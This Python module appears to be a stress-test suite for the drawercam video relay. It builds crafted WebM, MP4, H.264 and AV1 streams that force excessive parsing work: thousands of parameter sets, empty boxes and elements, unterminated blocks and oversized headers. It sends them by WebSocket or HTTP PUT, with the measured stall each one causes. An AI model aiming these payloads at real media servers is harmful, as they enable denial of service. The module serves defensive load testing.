"""Bytes of cameras that are much work in few bytes, and attacks by them.

They are what a container allows and no recorder writes.
"""

from __future__ import annotations

import asyncio
import itertools
import struct
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import partial

from websockets.frames import Opcode

from drawercam.media.containers import boxes, ebml
from drawercam.media.containers.matroska import Id
from drawercam.media.containers.mp4_writer import Mp4Writer
from drawercam.media.packets import Codec, Track

from .attack import BYTES, PER_SECOND, SCATTERED, SHARED, Attack
from .force import SOURCE, Force, Lane
from .guests import enter, lanes
from .peers import Peer, WebSocketPeer, frame, text

MESSAGE = 8 * 2**20 - 4096
"""Bytes of a message: a little less than what a camera may send in one."""

CHILDREN = 4000
"""Elements or boxes in one: a little less than what is allowed."""

HEADER = 2**20 - 100
"""Bytes of a header: a little less than what is allowed."""

PIECE = 65_536
"""Bytes that are put at once."""

_UNKNOWN_SIZE = b"\x01" + b"\xff" * 7
_VOID = b"\xec\x80"
_FREE = boxes.box(b"free", b"")
_AVC = b"\x01\x42\x00\x1e\xff\xe0\x00"
_CLUSTER = Id.CLUSTER.to_bytes(4, "big") + _UNKNOWN_SIZE + ebml.element(Id.TIMESTAMP, b"\0")


@dataclass(frozen=True)
class Stream:
    """What a hostile camera sends.

    Attributes:
        head: Its first bytes, which are good.
        body: What is much work: `MESSAGE` bytes, or a little less. It may be sent again and again
            behind the head.
    """

    head: bytes
    body: bytes


def webm_head(codec: bytes, config: bytes = b"") -> bytes:
    """The beginning of a WebM with one track of pictures."""
    entry = (
        ebml.element(Id.TRACK_NUMBER, b"\1")
        + ebml.element(Id.TRACK_TYPE, b"\1")
        + ebml.element(Id.CODEC_ID, codec)
    )
    if config:
        entry += ebml.element(Id.CODEC_PRIVATE, config)
    return (
        ebml.element(Id.EBML, ebml.element(Id.DOC_TYPE, b"webm"))
        + Id.SEGMENT.to_bytes(4, "big")
        + _UNKNOWN_SIZE
        + ebml.element(Id.INFO, ebml.element(Id.TIMESTAMP_SCALE, ebml.uint(1_000_000)))
        + ebml.element(Id.TRACKS, ebml.element(Id.TRACK_ENTRY, entry))
    )


def _filled(one: bytes, size: int) -> bytes:
    """As often as it fits."""
    return one * (size // len(one))


def _clusters(codec: bytes, picture: bytes, config: bytes = b"") -> Stream:
    """Keyframes that are all the same."""
    block = ebml.element(Id.SIMPLE_BLOCK, b"\x81\0\0\x80" + picture)
    return Stream(webm_head(codec, config), _CLUSTER + _filled(block, MESSAGE - len(_CLUSTER)))


def _golomb(*values: int | str) -> bytes:
    """Exp-Golomb codes (ITU-T H.264 section 9.1) and bits as they are, with the stop bit behind
    them.
    """
    written = "".join(
        value
        if isinstance(value, str)
        else f"{value + 1:b}".zfill(2 * (value + 1).bit_length() - 1)
        for value in values
    )
    written += "1"
    written += "0" * (-len(written) % 8)
    return int(written, 2).to_bytes(len(written) // 8, "big")


def _units(*units: bytes) -> bytes:
    """NAL units behind their lengths."""
    return b"".join(len(unit).to_bytes(4, "big") + unit for unit in units)


def picture_parameter_sets() -> Stream:
    """H.264 with 4096 picture parameter sets in each picture, each another than the one before of
    its number.
    """
    changing = [
        _units(*(b"\x68" + _golomb(number, 0, variant) for number in range(256)))
        for variant in (0, 1)
    ]
    return _clusters(b"V_MPEG4/ISO/AVC", b"".join(changing) * 8, _AVC)


def sequence_parameter_sets() -> Stream:
    """The same with sequence parameter sets, which say the size."""

    def unit(number: int, width: int) -> bytes:
        return b"\x67\x42\x00\x1e" + _golomb(number, 0, 2, 1, "0", width, 5, "1100")

    changing = [_units(*(unit(number, width) for number in range(32))) for width in (5, 6)]
    return _clusters(b"V_MPEG4/ISO/AVC", b"".join(changing) * 64, _AVC)


def tiny_units() -> Stream:
    """H.264 with 4096 NAL units of a byte in each picture."""
    return _clusters(b"V_MPEG4/ISO/AVC", b"\0\0\0\1\x09" * 4096, _AVC)


def tiny_obus() -> Stream:
    """AV1 with 4095 empty OBUs in each picture."""
    return _clusters(b"V_AV1", b"\x12\0" * 4095)


def block_groups() -> Stream:
    """Groups of nothing."""
    group = ebml.element(Id.BLOCK_GROUP, _VOID * CHILDREN)
    return Stream(webm_head(b"V_VP8"), _CLUSTER + _filled(group, MESSAGE - len(_CLUSTER)))


def track_entries() -> Stream:
    """Headers of a megabyte that describe tracks by nothing."""
    entry = ebml.element(
        Id.TRACK_ENTRY,
        ebml.element(Id.TRACK_NUMBER, b"\1")
        + ebml.element(Id.CODEC_ID, b"V_VP8")
        + _VOID * CHILDREN,
    )
    tracks = ebml.element(Id.TRACKS, _filled(entry, HEADER))
    return Stream(webm_head(b"V_VP8"), _filled(tracks, MESSAGE))


def _mp4_head() -> bytes:
    return Mp4Writer(Track(Codec.VP8, "vp8", width=64, height=64), 1).init()


def movies() -> Stream:
    """MP4 whose `moov` comes again and again, with tracks that are looked through in vain."""
    good = _mp4_head()
    movie = good[good.index(b"moov") + 4 :]
    header = boxes.full_box(b"tkhd", struct.pack(">5I", 0, 0, 99, 0, 0) + bytes(60))
    handler = boxes.full_box(b"hdlr", struct.pack(">I4s12x", 0, b"vide") + b"\0")
    track = boxes.box(
        b"trak", _FREE * CHILDREN + header + boxes.box(b"mdia", _FREE * CHILDREN + handler)
    )
    return Stream(
        good, _filled(boxes.box(b"moov", movie + _filled(track, HEADER - len(movie))), MESSAGE)
    )


def fragments() -> Stream:
    """MP4 whose fragments hold boxes of nothing."""
    header = boxes.full_box(b"mfhd", struct.pack(">I", 1))
    track = boxes.box(
        b"traf", boxes.full_box(b"tfhd", struct.pack(">I", 1), flags=0x20000) + _FREE * CHILDREN
    )
    fragment = boxes.box(b"moof", header + _filled(track, HEADER)) + boxes.box(b"mdat", b"")
    return Stream(_mp4_head(), _filled(fragment, MESSAGE))


def free_boxes() -> Stream:
    """MP4 of empty boxes."""
    return Stream(_mp4_head(), _filled(_FREE, MESSAGE))


def void_elements() -> Stream:
    """WebM of empty elements."""
    return Stream(webm_head(b"V_VP8"), _CLUSTER + _filled(_VOID, MESSAGE - len(_CLUSTER)))


def tiny_chunks() -> Stream:
    """The same as the body of a request, each byte in a chunk by itself (RFC 9112 section 7.1)."""
    head = webm_head(b"V_VP8") + _CLUSTER
    return Stream(
        b"%x\r\n%b\r\n" % (len(head), head),
        _filled(b"".join(b"1\r\n%c\r\n" % byte for byte in _VOID), MESSAGE),
    )


STREAMS: dict[str, tuple[str, Callable[[], Stream]]] = {
    "pps": ("picture parameter sets", picture_parameter_sets),
    "sps": ("sequence parameter sets", sequence_parameter_sets),
    "units": ("NAL units of a byte", tiny_units),
    "obus": ("empty OBUs", tiny_obus),
    "groups": ("BlockGroups of nothing", block_groups),
    "tracks": ("TrackEntries of nothing", track_entries),
    "moov": ("moovs of nothing", movies),
    "moof": ("fragments of nothing", fragments),
    "boxes": ("empty boxes", free_boxes),
    "elements": ("empty elements", void_elements),
}
"""By the name of their attack: in words, and what makes it."""

_BEGIN = text({"type": "stream", "stream": 1, "mime": ""})


async def messages(force: Force, name: str) -> None:
    """One message after the other of such a stream, over a WebSocket."""
    stream = STREAMS[name][1]()
    data = frame(Opcode.BINARY, b"\1" + stream.body)
    lane = lanes(force, ["/camera/evil"], _BEGIN + frame(Opcode.BINARY, b"\1" + stream.head))[0]
    await lane.opened()
    await force.begin()
    await force.pace(lambda: lane.send(data))


class Putter(Peer):
    """Films by PUT: what it puts follows what it has put."""

    def __init__(self, stream: Stream) -> None:
        super().__init__()
        self._pieces = itertools.cycle(_pieces(stream.body))

    def put(self) -> bool:
        """One more piece; whether it went out."""
        return self.send(next(self._pieces))

    def received(self, data: memoryview) -> None:
        if bytes(data[:5]) == b"HTTP/":
            self._why = bytes(data[9:12]).decode(errors="replace")


def _pieces(body: bytes) -> Iterator[bytes]:
    return (body[start : start + PIECE] for start in range(0, len(body), PIECE))


async def puts(
    force: Force, make: Callable[[], Stream], framing: str = "Content-Length: 9000000000"
) -> None:
    """Such a stream in the body of a PUT, at a steady rate of bytes."""
    stream = make()
    head = (
        "PUT /cameras/evil/publish HTTP/1.1\r\nHost: "
        f"{force.site.authority}\r\nAuthorization: Bearer {force.site.filming}\r\n"
        f"{framing}\r\n\r\n"
    ).encode() + stream.head

    async def connect() -> Putter:
        putter = await Putter(stream).open(force.site.port, SOURCE)
        putter.send(head)
        return putter

    lane = Lane(force, connect)
    await lane.opened()
    await force.begin()
    await force.pace(lambda: lane.line is not None and lane.line.put())


def unfinished_block() -> bytes:
    """A message's bytes, at the beginning of a block that does not end with them."""
    begin = (
        webm_head(b"V_VP8") + _CLUSTER + Id.SIMPLE_BLOCK.to_bytes(1, "big") + b"\x10\x7f\xff\xf0"
    )
    return begin.ljust(8 * 2**20 - 1, b"\0")


async def unfinished(force: Force, sources: Sequence[str] = (SOURCE,)) -> None:
    """Cameras of eight streams, each with an element that does not end."""
    data = unfinished_block()
    begins = [text({"type": "stream", "stream": number, "mime": ""}) for number in range(1, 9)]
    parts = [
        begin + frame(Opcode.BINARY, bytes([number]) + data)
        for number, begin in enumerate(begins, 1)
    ]
    cameras: list[Lane[WebSocketPeer]] = []
    for number in range(20):
        cameras += lanes(force, [f"/camera/h{number}"], source=sources[number % len(sources)])
    await asyncio.gather(*(camera.opened() for camera in cameras))
    await force.begin()
    count = itertools.count()

    def offer() -> bool:
        which, part = divmod(next(count), len(parts))
        return cameras[which % len(cameras)].send(parts[part])

    await force.pace(offer)


def long_doctype() -> bytes:
    """A header that says at length what it is."""
    return ebml.element(Id.EBML, ebml.element(Id.DOC_TYPE, b"\xff" * (2**20 - 100)))


async def doctypes(force: Force) -> None:
    """Cameras that come with a header of which much could be said."""
    data = _BEGIN + frame(Opcode.BINARY, b"\1" + long_doctype())
    await force.begin()
    count = itertools.count()

    async def once() -> None:
        peer = await enter(force, f"/camera/h{next(count) % 20}")
        force.landed += 1
        try:
            peer.send(data)
            async with asyncio.timeout(10):
                force.answers[await peer.ended] += 1
        finally:
            peer.leave()

    await force.each(once)


_MESSAGES_WHY = "one alone froze the relay for up to 15 s; one every 2 s is an uplink of 32 Mbit/s"
_UNFINISHED_WHY = "66 MB for each camera, one every 4 s"
_UNFINISHED = 8 * 2**20
_PUTS = 4 * 2**20

ATTACKS = [
    *(
        Attack(
            name,
            f"8 MiB of {what} a message",
            partial(messages, name=name),
            0.5,
            PER_SECOND,
            _MESSAGES_WHY,
            guest=True,
        )
        for name, (what, _) in STREAMS.items()
    ),
    *(
        Attack(
            f"put-{name}",
            f"{what} by PUT",
            partial(puts, make=make),
            _PUTS,
            BYTES,
            "as by messages",
            step=PIECE,
            guest=True,
        )
        for name, (what, make) in STREAMS.items()
    ),
    Attack(
        "put-chunks",
        "empty elements by PUT, in chunks of a byte",
        partial(puts, make=tiny_chunks, framing="Transfer-Encoding: chunked"),
        _PUTS,
        BYTES,
        "62 ms of work for every 200 KB",
        step=PIECE,
        guest=True,
    ),
    Attack(
        "unfinished",
        "elements that do not end",
        unfinished,
        2 * _UNFINISHED,
        BYTES,
        _UNFINISHED_WHY,
        step=_UNFINISHED,
        guest=True,
    ),
    Attack(
        "unfinished-scattered",
        "the same from 50 addresses",
        partial(unfinished, sources=SCATTERED),
        2 * _UNFINISHED,
        BYTES,
        _UNFINISHED_WHY,
        step=_UNFINISHED,
        guest=True,
        growth=SHARED,
    ),
    Attack(
        "doctypes",
        "headers with a megabyte to quote",
        doctypes,
        2,
        PER_SECOND,
        "a line of 3 MB each in the log",
        guest=True,
    ),
]
